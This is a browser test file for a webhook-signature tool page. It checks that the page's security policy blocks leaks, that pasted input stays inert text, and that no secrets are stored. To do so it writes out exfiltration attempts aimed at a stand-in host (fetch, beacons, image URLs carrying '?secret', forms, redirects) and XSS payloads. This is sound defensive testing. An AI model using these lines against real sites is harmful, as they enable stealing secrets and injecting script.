import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openSite } from '../../../.ci/page/open.mjs'
import { generate, openTab, PUT, pressVerify, putIntoVerify, secretsOf, TAMPER, verdict } from './steps.mjs'

let site
beforeAll(async () => {
  site = await openSite()
})
afterAll(() => site?.close())

/** A visit to every tab, with secrets in the fields and a verdict told. */
async function visit(options) {
  const page = await site.open(options)
  const panel = await generate(page, 'autify')
  const secrets = await secretsOf(panel)
  await putIntoVerify(panel, TAMPER)
  await verdict(page).getByText('Refused:').waitFor()
  const verify = page.getByRole('tabpanel', { name: 'Verify' })
  await verify.getByRole('button', { name: /^Show the secret/ }).click()
  const rotation = await openTab(page, 'Rotation')
  await rotation
    .getByRole('button', { name: 'Swapped without staging' })
    .or(rotation.getByRole('button', { name: 'Both slots at once', exact: true }))
    .first()
    .click()
  await page.getByRole('button', { name: 'Dark' }).click()
  return { page, secrets }
}

/** All that a page can leave behind in a browser. */
function leftBehind(page) {
  return page.evaluate(async () => ({
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    cookie: document.cookie,
    address: location.search + location.hash,
    history: [history.length, history.state, window.name],
  }))
}

const NOTHING = {
  ...{ localStorage: {}, sessionStorage: {}, databases: 0, caches: 0, workers: 0, cookie: '', address: '' },
  // The empty page before, and this one.
  history: [2, null, ''],
}

describe('nothing leaves the page', () => {
  it('by a request, and its policy was never tried', async () => {
    const { page } = await visit()
    expect(page.noticed).toEqual([])
    await page.context().close()
  })

  it.each([
    ['fetch', "fetch('https://elsewhere.example/').catch(() => {})", 'connect-src'],
    ['a beacon', "navigator.sendBeacon('https://elsewhere.example/', 'secret')", 'connect-src'],
    ['a socket', "try { new WebSocket('wss://elsewhere.example/') } catch {}", 'connect-src'],
    ['a picture', "new Image().src = 'https://elsewhere.example/?secret'", 'img-src'],
    [
      'a frame',
      "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }))",
      'frame-src',
    ],
    ['a script', "import('https://elsewhere.example/').catch(() => {})", 'script-src-elem'],
    [
      'an element of script',
      "try { document.createElement('script').src = 'https://elsewhere.example/' } catch {}",
      'require-trusted-types-for',
    ],
    [
      'an inline script',
      "try { document.createElement('script').textContent = '1' } catch {}",
      'require-trusted-types-for',
    ],
    [
      'an inline style',
      "document.body.append(Object.assign(document.createElement('style'), { textContent: 'p {}' }))",
      'style-src-elem',
    ],
    [
      'a form',
      "{ const form = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/', method: 'post' }); document.body.append(form); form.submit() }",
      'form-action',
    ],
    [
      'the address that links start from',
      "document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }))",
      'base-uri',
    ],
    [
      'a prefetch',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://elsewhere.example/?secret' }))",
      'default-src',
    ],
    [
      'a ping',
      "Object.assign(document.createElement('a'), { href: '#', ping: 'https://elsewhere.example/' }).click()",
      'connect-src',
    ],
    ['a transport', "try { new WebTransport('https://elsewhere.example/') } catch {}", 'connect-src'],
    ['a worker', "try { new Worker('./worker.js') } catch {}", 'require-trusted-types-for'],
    [
      'a worker of the site',
      "navigator.serviceWorker.register('./worker.js').catch(() => {})",
      'require-trusted-types-for',
    ],
    ['markup', "try { document.body.innerHTML = '<p>' } catch {}", 'require-trusted-types-for'],
  ])('by %s: the policy stands in its way, and this test sees it', async (_, attempt, directive) => {
    const page = await site.open()
    await page.evaluate(attempt)
    await expect.poll(() => page.noticed).toContain(`policy: ${directive}`)
    await page.context().close()
  })

  it.each([
    ['another address', "location.href = 'https://elsewhere.example/?secret'", /^request: GET https:/],
    ['another window', "open('about:blank#secret')", /^window: about:blank#secret/],
  ])('by %s, which no policy of a page forbids: this test sees it', async (_, attempt, seen) => {
    const page = await site.open()
    await page.evaluate(attempt)
    await expect.poll(() => page.noticed).toContainEqual(expect.stringMatching(seen))
    await page.context().close()
  })

  it('unseen: without the policy, this test sees the request itself', async () => {
    const page = await site.open({ bypassCSP: true })
    await page.evaluate(() => fetch('./leak?secret', { method: 'POST' }).catch(() => {}))
    await expect
      .poll(() => page.noticed)
      .toContainEqual(expect.stringMatching(/^request: POST http:\S+\/leak\?secret$/))
    await page.context().close()
  })
})

describe('what is pasted', () => {
  const markup = '<img src=x onerror=alert(1)><script>alert(1)</script>'
  const har = {
    log: {
      entries: [
        {
          request: {
            method: 'POST',
            url: `https://receiver.example/${markup}`,
            headers: [{ name: 'X-Autify-Signature', value: `"'>${markup}` }],
            postData: { mimeType: markup, text: markup },
          },
        },
      ],
    },
  }

  it.each([
    ['raw HTTP', `POST / HTTP/1.1\nX-Autify-Signature: "'>${markup}\n\n${markup}`],
    ['a HAR', JSON.stringify(har)],
    ['a curl command', `curl 'https://receiver.example/' -H 'X-Autify-Signature: "${markup}' --data-raw '${markup}'`],
    ['nothing that can be read', markup],
  ])('as %s is text, whatever it looks like', async (_, pasted) => {
    const page = await site.open()
    const panel = await openTab(page, 'Verify')
    await panel.getByLabel('Provider').selectOption('Autify')
    await panel.getByLabel('Id', { exact: true }).fill(markup)
    await panel.getByLabel('Secret', { exact: true }).fill(`a-made-up-secret${markup}`)
    await panel.getByLabel('Request', { exact: true }).fill(pasted)
    await pressVerify(panel)
    expect(await page.evaluate(() => document.querySelectorAll('img, body script, [onerror]').length)).toBe(0)
    expect(page.noticed).toEqual([])
    await page.context().close()
  })
})

describe('nothing is kept', () => {
  it('in any store of the browser', async () => {
    const { page } = await visit()
    expect(await leftBehind(page)).toEqual(NOTHING)
    await page.reload()
    const panel = await openTab(page, 'Verify')
    expect(await panel.getByLabel('Secret', { exact: true }).inputValue()).toBe('')
    expect(await panel.getByLabel('Request', { exact: true }).inputValue()).toBe('')
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBeUndefined()
    await page.context().close()
  })

  it('unseen: what is kept is noticed', async () => {
    const page = await site.open()
    await page.evaluate(async () => {
      localStorage.setItem('a', 'b')
      await cookieStore.set('a', 'b')
      location.hash = 'a'
    })
    expect(await leftBehind(page)).toMatchObject({ localStorage: { a: 'b' }, cookie: 'a=b', address: '#a' })
    await page.context().close()
  })
})

describe('a secret', () => {
  it('stands nowhere in the document but in its field', async () => {
    const { page, secrets } = await visit()
    const document = await page.content()
    expect(secrets).toHaveLength(1)
    expect(secrets[0]).toMatch(/^[0-9a-f]{40}$/)
    expect(document).not.toContain(secrets[0])
    expect(
      await page
        .getByRole('tabpanel', { name: 'Verify', includeHidden: true })
        .getByLabel('Secret', { exact: true })
        .inputValue(),
    ).toBe(secrets[0])
    await page.context().close()
  })

  it('that is the header itself stands in fields alone, too', async () => {
    const page = await site.open()
    const panel = await generate(page, 'insider')
    await panel.getByLabel('Mode').selectOption('token')
    const [secret] = await secretsOf(panel)
    await putIntoVerify(panel, PUT)
    await verdict(page).getByText('nothing ties the body to it').waitFor()
    expect(await page.content()).not.toContain(secret)
    await openTab(page, 'Generate')
    await panel.getByLabel('What goes wrong').selectOption('The secret was pasted with a blank at its end')
    await putIntoVerify(panel, TAMPER)
    await verdict(page).getByText('Refused:').waitFor()
    expect(await page.content()).not.toContain(secret)
    expect(page.noticed).toEqual([])
    await page.context().close()
  })

  it('is not completed, corrected or remembered by the browser, and neither is what it signs', async () => {
    const page = await site.open()
    const panel = await openTab(page, 'Verify')
    await panel.getByRole('button', { name: 'Show the secret of key-1' }).click()
    const fields = await page.evaluate(() =>
      [...document.querySelectorAll('textarea, input:is([type=text], [type=password])')].map(
        (field) =>
          `${field.getAttribute('autocomplete')} ${field.getAttribute('autocorrect')} ${field.getAttribute('spellcheck')}`,
      ),
    )
    expect(fields.length).toBeGreaterThan(6)
    expect(fields.filter((value) => value !== 'off off false')).toEqual([])
    await page.context().close()
  })

  it('is hidden until its owner asks', async () => {
    const page = await site.open()
    const panel = await openTab(page, 'Verify')
    const field = panel.getByLabel('Secret', { exact: true })
    expect(await field.getAttribute('type')).toBe('password')
    await panel.getByRole('button', { name: 'Show the secret of key-1' }).click()
    expect(await field.getAttribute('type')).toBe('text')
    // What is seen is what is heard.
    expect(await panel.getByRole('button', { name: 'Hide the secret of key-1' }).textContent()).toBe('Hide')
    await page.context().close()
  })
})
